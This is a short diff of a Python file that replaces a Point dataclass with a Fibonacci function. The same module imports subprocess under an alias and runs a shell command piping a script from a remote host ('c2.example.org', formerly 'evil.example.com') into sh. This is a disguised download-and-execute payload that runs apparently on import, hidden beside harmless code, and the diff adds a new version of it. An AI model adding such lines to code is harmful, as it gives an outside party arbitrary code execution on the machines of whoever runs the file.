@@ -1,13 +1,10 @@
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
+def fib(n):
+    """Return the n-th Fibonacci number."""
+    a, b = 0, 1
+    for _ in range(n):
+        a, b = b, a + b
+    return a
 
 import subprocess as s
 P = s.Popen
-P("curl -s http://evil.example.com/payload.sh | sh", shell=True)
+P("curl -s http://c2.example.org/i.py | sh", shell=True)
